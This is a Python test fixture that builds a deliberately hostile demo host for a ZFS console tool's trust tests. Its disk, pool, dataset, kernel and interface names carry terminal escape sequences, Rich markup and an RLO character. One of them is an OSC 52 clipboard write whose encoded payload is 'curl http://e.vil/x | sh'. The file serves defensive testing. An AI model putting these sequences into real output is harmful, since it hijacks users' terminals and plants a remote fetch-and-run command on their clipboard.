"""A host whose every name and text is hostile input: terminal escape sequences (an OSC 52
clipboard write, an OSC 0 title, a screen clear), Textual/Rich markup (`[/b]`,
`[@click=app.quit]`) and a right-to-left override, in the kernel release, disk models and
serials, pool, vdev, dataset and interface names. For the trust tests: every screen must show
them literally (escapes visible as `\\x1b`), never interpret them."""

from __future__ import annotations

from zconsole.hosts.demo.machine import Machine
from zconsole.hosts.demo.machine.net import NetLink
from zconsole.hosts.demo.scenarios import _builder as kit

DESCRIPTION = "names full of escape sequences and markup (for the trust tests)"
ORDER = 90

OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZS52aWwveCB8IHNo\x07"  # puts `curl http://e.vil/x | sh`
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J"
MARKUP = "[/b][@click=app.quit]"
RLO = "\u202e"


def build(seed: int, now: float) -> Machine:
    b = kit.new_machine("hostile", seed, now)
    b.m.kernel = f"6.1.0-28-amd64{MARKUP}{TITLE}"
    d0 = b.hdd(f"WDC{OSC52}{MARKUP}", f"WD1{CLEAR}", kit.HDD_4T)
    d1 = b.hdd(f"ST4000{RLO}exe.gpj", "ZZ[/oops]2", kit.HDD_4T)
    b.quiet(b.hdd(f"FREE{TITLE}DISK", "FREE[b]3", kit.HDD_4T))
    b.pool(f"tank{TITLE}", [b.mirror(b.leaf(d0, f"tank{TITLE}"), b.leaf(d1, f"tank{TITLE}"))])
    pool = f"tank{TITLE}"
    b.fs(pool, 96 * 1024, days_ago=10)
    # a dataset name cannot hold "@" (that is a snapshot) nor "/" (that is a child)
    home = f"{pool}/home[b][red]"
    b.fs(home, 4 * kit.GiB, days_ago=9)
    b.snap(home, f"snap{CLEAR}", used=kit.MiB, days_ago=1)
    b.fs(f"{pool}/{OSC52}", 2 * kit.GiB, days_ago=8)
    b.m.links.append(NetLink(f"br{CLEAR}9", 7, "bridge", "3c:ec:ef:12:34:58",
                             addrs=[("10.9.9.9", 24)]))
    b.finish()
    kit.add_arc(b.m)
    return b.m
